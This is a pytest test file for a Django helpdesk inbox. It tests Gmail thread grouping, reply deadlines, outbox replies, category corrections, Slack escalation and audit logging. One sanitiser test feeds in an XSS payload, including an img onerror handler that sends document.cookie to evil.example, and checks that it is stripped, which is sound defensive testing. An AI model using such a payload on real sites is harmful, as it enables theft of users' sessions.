"""Threads from the group's mail, and what agents do with them: reply, categorise, escalate."""

from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from django.core.exceptions import ValidationError

from inbox import services
from inbox.models import Category, CategoryRule, Message, PreparedResponse, Thread
from integrations.models import OutboxMessage
from people.models import AuditEvent
from tests.inbox.factories import GROUP, MessageFactory, ThreadFactory, incoming

DENVER = ZoneInfo("America/Denver")


def denver(*args) -> datetime:
    return datetime(*args, tzinfo=DENVER)


def stored(mailbox, *messages):
    return services.store_messages(mailbox=mailbox, messages=list(messages))


# ---- mail in ---------------------------------------------------------------------------------
def test_mail_is_grouped_into_threads_by_gmail_thread_id(group_mailbox):
    counts = stored(
        group_mailbox,
        incoming("T1", at=denver(2024, 5, 13, 10)),
        incoming("T1", at=denver(2024, 5, 13, 11), direction="out",
                 sender=("LevelUp", GROUP), subject="Re: Passed the exam but no badge",
                 text="We sent it again."),
        incoming("T1", at=denver(2024, 5, 14, 9, 30), subject="Re: Passed the exam but no badge",
                 text="Got it now, but the name is wrong."),
        incoming("T2", at=denver(2024, 5, 13, 12), subject="Demo cloud credits used up",
                 sender=("Sofia Rossi", "s.rossi@tailspin.example"),
                 text="The sandbox says I have no credits left."),
    )

    assert counts["threads_created"] == 2 and counts["messages"] == 4
    badge = Thread.objects.get(gmail_thread_id="T1")
    assert badge.subject == "Passed the exam but no badge"
    assert (badge.requester_name, badge.requester_email) == ("Amara Okafor",
                                                             "amara@fabrikam.example")
    assert badge.message_count == 3 and badge.messages.count() == 3
    # The customer wrote last: the thread is open again, though it was answered.
    assert badge.status == Thread.Status.OPEN
    assert badge.responded_at == denver(2024, 5, 13, 11)
    # Asked Monday 10:00 Denver; 8 business hours later is Tuesday 10:00.
    assert badge.first_response_due_at == denver(2024, 5, 14, 10)
    assert badge.last_message_at == denver(2024, 5, 14, 9, 30)
    assert badge.category.slug == "certification" and badge.category_rule is not None
    credits = Thread.objects.get(gmail_thread_id="T2")
    assert credits.category.slug == "demo-cloud" and credits.status == Thread.Status.OPEN
    assert credits.participants == [{"name": "Sofia Rossi",
                                     "address": "s.rossi@tailspin.example"}]
    assert CategoryRule.objects.get(category__slug="certification").matched_count == 1


def test_the_same_page_twice_changes_nothing(group_mailbox):
    page = [incoming("T1", at=denver(2024, 5, 13, 10)),
            incoming("T1", at=denver(2024, 5, 13, 11), subject="Re: Passed the exam but no badge")]
    stored(group_mailbox, *page)
    before = list(Thread.objects.values())
    again = stored(group_mailbox, *page)

    assert again["already_stored"] == 2 and not again["messages"]
    assert Message.objects.count() == 2
    assert [{k: v for k, v in t.items() if k != "updated_at"} for t in Thread.objects.values()] \
        == [{k: v for k, v in t.items() if k != "updated_at"} for t in before]


def test_pages_may_arrive_newest_first(group_mailbox):
    """A full sync lists newest first: the reply is seen before the question it answers."""
    stored(group_mailbox, incoming("T1", at=denver(2024, 5, 13, 11), direction="out",
                                   sender=("LevelUp", GROUP),
                                   subject="Re: Can't log in to Level Up", text="Try again."))
    thread = Thread.objects.get()
    assert thread.status == Thread.Status.WAITING and thread.first_response_due_at is None
    stored(group_mailbox, incoming("T1", at=denver(2024, 5, 13, 10),
                                   sender=("Priya Raman", "priya.raman@northwind.example"),
                                   subject="Can't log in to Level Up",
                                   text="I still get invalid credentials."))

    thread.refresh_from_db()
    assert thread.subject == "Can't log in to Level Up"
    assert thread.requester_email == "priya.raman@northwind.example"
    assert thread.asked_at == denver(2024, 5, 13, 10)
    assert thread.first_response_due_at == denver(2024, 5, 14, 10)
    assert thread.status == Thread.Status.WAITING  # the newest message is still our answer
    assert thread.responded_at == denver(2024, 5, 13, 11) and not thread.is_overdue()
    assert thread.created_at == denver(2024, 5, 13, 10)


def test_an_auto_reply_is_not_an_answer(group_mailbox):
    stored(group_mailbox, incoming("T1", at=denver(2024, 5, 13, 10)),
           incoming("T1", at=denver(2024, 5, 13, 10, 1), direction="out",
                    sender=("LevelUp", GROUP), automatic=True,
                    subject="Automatic reply: Passed the exam but no badge"))
    thread = Thread.objects.get()
    assert thread.responded_at is None and thread.status == Thread.Status.OPEN
    assert thread.is_overdue()  # due in May 2024


def test_a_thread_the_group_started_waits_on_the_other_side(group_mailbox):
    stored(group_mailbox, incoming("T9", direction="out", sender=("LevelUp", GROUP),
                                   automatic=True, subject="Automatic reply: Badge expired"))
    thread = Thread.objects.get()
    assert thread.status == Thread.Status.WAITING and thread.first_response_due_at is None
    assert thread.requester_email == "amara@fabrikam.example"  # whom it was sent to


def test_an_out_of_office_from_the_customer_does_not_reopen(group_mailbox):
    thread = ThreadFactory(status=Thread.Status.WAITING, gmail_thread_id="T1",
                           last_message_at=denver(2024, 5, 13, 10))
    stored(group_mailbox, incoming("T1", at=denver(2024, 5, 13, 12), automatic=True,
                                   subject="Out of office"))
    thread.refresh_from_db()
    assert thread.status == Thread.Status.WAITING and thread.message_count == 2


def test_a_customer_reply_reopens_a_done_thread(group_mailbox):
    thread = ThreadFactory(status=Thread.Status.DONE, gmail_thread_id="T1",
                           last_message_at=denver(2024, 5, 13, 10))
    stored(group_mailbox, incoming("T1", at=denver(2024, 5, 15, 10),
                                   subject="Re: Passed the exam but no badge"))
    thread.refresh_from_db()
    assert thread.status == Thread.Status.OPEN


def test_html_is_sanitised_on_the_way_in(group_mailbox):
    stored(group_mailbox, incoming(
        "T1", html="<p>Hi</p><script>alert('x')</script>"
                   "<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\">"
                   "<a href=\"javascript:alert(1)\">click</a>"))
    body = Message.objects.get().body_html
    assert "<p>Hi</p>" in body
    assert "script" not in body and "onerror" not in body and "javascript:" not in body


def test_uncategorised_mail_goes_to_other(group_mailbox):
    stored(group_mailbox, incoming("T1", subject="Pricing question",
                                   text="How much does the Premium tier cost for 50 users?"))
    thread = Thread.objects.get()
    assert thread.category.slug == "other" and thread.category_rule is None


def test_a_rule_matches_whole_words_only():
    rule = CategoryRule(phrases="exam\nlog in")
    assert rule.matches("i passed the exams") and rule.matches("can't log in today")
    assert not rule.matches("write to learner@example.com")
    assert not rule.matches("the catalog included")


# ---- replies -------------------------------------------------------------------------------
@pytest.fixture
def question(group_mailbox):
    stored(group_mailbox,
           incoming("T1", at=denver(2024, 5, 13, 10), rfc_id="<q1@fabrikam.example>",
                    sender=("Amara Okafor", "amara@fabrikam.example"),
                    cc=[{"name": "Her manager", "address": "boss@fabrikam.example"},
                        {"name": "LevelUp", "address": GROUP}]),
           incoming("T1", at=denver(2024, 5, 13, 10, 1), direction="out", automatic=True,
                    sender=("LevelUp", GROUP), subject="Automatic reply"))
    return Thread.objects.get()


def test_a_reply_is_queued_for_gmail_in_the_thread_with_an_audit_line(question, agent):
    response = PreparedResponse.objects.get(title="Passed the exam, no badge yet")
    message = services.reply_to_thread(thread_id=question.pk, actor=agent,
                                       body="Hi Amara, sent again.", prepared_response=response)

    row = OutboxMessage.objects.get()
    assert (row.system, row.action, row.subject) == ("gmail", "reply", f"thread:{question.pk}")
    parent = Message.objects.get(rfc_message_id="<q1@fabrikam.example>")
    assert row.payload == {"message_pk": message.pk, "reply_to_pk": parent.pk}
    assert message.outbox == row and message.direction == Message.Direction.OUTBOUND
    assert message.to == [{"name": "Amara Okafor", "address": "amara@fabrikam.example"}]
    assert message.cc == [{"name": "Her manager", "address": "boss@fabrikam.example"}]
    assert message.headers["in_reply_to"] == "<q1@fabrikam.example>"
    assert message.from_address == GROUP and message.rfc_message_id.endswith("@edudesk.example>")
    question.refresh_from_db()
    assert question.status == Thread.Status.WAITING and question.assignee == agent
    assert question.responded_at is not None and question.message_count == 3
    response.refresh_from_db()
    assert response.times_used == 1
    line = AuditEvent.objects.get(subject=f"thread:{question.pk}")
    assert line.verb == "reply" and "Passed the exam, no badge yet" in line.summary


def test_send_and_mark_done(question, agent):
    services.reply_to_thread(thread_id=question.pk, actor=agent, body="Done.",
                             mark_as_done=True)
    question.refresh_from_db()
    assert question.status == Thread.Status.DONE


@pytest.mark.parametrize("body", ["", "   ", "a\x00b", "x" * 65_001])
def test_a_reply_needs_sensible_text(question, agent, body):
    with pytest.raises(ValidationError):
        services.reply_to_thread(thread_id=question.pk, actor=agent, body=body)
    assert not OutboxMessage.objects.exists() and Message.objects.count() == 2


def test_our_reply_coming_back_from_gmail_is_linked_not_copied(question, agent, group_mailbox):
    reply = services.reply_to_thread(thread_id=question.pk, actor=agent, body="Sent again.")
    counts = stored(group_mailbox, incoming("T1", direction="out", sender=("LevelUp", GROUP),
                                            rfc_id=reply.rfc_message_id,
                                            subject="Re: Passed the exam but no badge"))
    assert counts["replies_linked"] == 1 and not counts["messages"]
    reply.refresh_from_db()
    assert reply.gmail_id and Message.objects.filter(thread=question).count() == 3


def test_placeholders_are_filled(question, agent):
    text = services.render_placeholders(
        "Hi {{requester.first_name}}, about “{{thread.subject}}”. {{agent.first_name}} "
        "{{unknown.thing}}", thread=question, actor=agent)
    assert text == ("Hi Amara, about “Passed the exam but no badge”. Ada {{unknown.thing}}")


# ---- categories, status, escalation --------------------------------------------------------
def test_corrections_are_counted_against_the_rule_once_per_thread(question, agent):
    rule = question.category_rule
    training = Category.objects.get(slug="training")
    other = Category.objects.get(slug="other")
    services.correct_category(thread_id=question.pk, category=training, actor=agent)
    services.correct_category(thread_id=question.pk, category=other, actor=agent)

    rule.refresh_from_db()
    training.refresh_from_db()
    assert rule.corrected_count == 1 and training.corrections_into == 1
    question.refresh_from_db()
    assert question.category == other and question.category_corrected
    assert AuditEvent.objects.filter(subject=question.subject_key, verb="categorise").count() == 2


def test_escalation_posts_the_summary_and_a_link_to_the_team_channel(question, agent, settings):
    settings.EDUDESK_URL = "https://desk.example"
    services.escalate_thread(thread_id=question.pk, actor=agent, note="Credly shows no badge")

    row = OutboxMessage.objects.get(system="slack")
    assert row.subject == question.subject_key and row.action == "escalate"
    assert row.payload["channel"] == "#edu_services_team"
    assert "Passed the exam but no badge" in row.payload["text"]
    assert "amara@fabrikam.example" in row.payload["text"]
    assert "Credly shows no badge" in row.payload["text"]
    assert row.payload["links"] == [{"url": f"https://desk.example/inbox/threads/{question.pk}/",
                                     "label": "Open in EduDesk"}]
    assert AuditEvent.objects.get(subject=question.subject_key).verb == "escalate"


def test_status_and_assignment_write_audit_lines(agent, other_agent):
    thread = ThreadFactory()
    services.assign_thread(thread_id=thread.pk, assignee=other_agent, actor=agent)
    services.mark_done(thread_id=thread.pk, actor=agent)
    with pytest.raises(ValidationError):
        services.set_thread_status(thread_id=thread.pk, status="solved", actor=agent)
    assert list(AuditEvent.objects.filter(subject=thread.subject_key)
                .values_list("verb", flat=True)) == ["assign", "status"]


def test_a_thread_without_a_message_cannot_be_answered(agent):
    thread = ThreadFactory()
    with pytest.raises(ValidationError, match="no message"):
        services.reply_to_thread(thread_id=thread.pk, actor=agent, body="Hi")
    MessageFactory(thread=thread)
    services.reply_to_thread(thread_id=thread.pk, actor=agent, body="Hi")
